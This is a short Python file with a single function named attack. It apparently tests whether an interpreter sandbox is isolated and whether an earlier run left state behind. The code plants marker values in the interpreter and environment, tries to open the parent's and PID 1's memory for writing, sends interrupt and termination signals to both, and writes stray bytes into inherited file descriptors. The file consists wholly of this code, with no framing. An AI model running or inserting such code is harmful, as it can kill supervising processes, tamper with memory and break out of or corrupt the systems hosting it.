import builtins
import os
import signal
import sys


def attack():
    """Whether a copy before this one has left something in the spare interpreter."""
    fallen = hasattr(builtins, "touched") or "touched" in sys.modules or "touched" in os.environ
    builtins.touched = sys.modules["touched"] = True
    os.environ["touched"] = "1"
    for pid in (os.getppid(), 1):
        try:
            with open(f"/proc/{pid}/mem", "r+b", 0):
                return True
        except OSError:
            pass
        for number in (signal.SIGUSR1, signal.SIGINT, signal.SIGTERM):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    for descriptor in range(3, 32):
        try:
            os.write(descriptor, b"\0\0\0\2Xx5\n")
        except OSError:
            pass
    return fallen
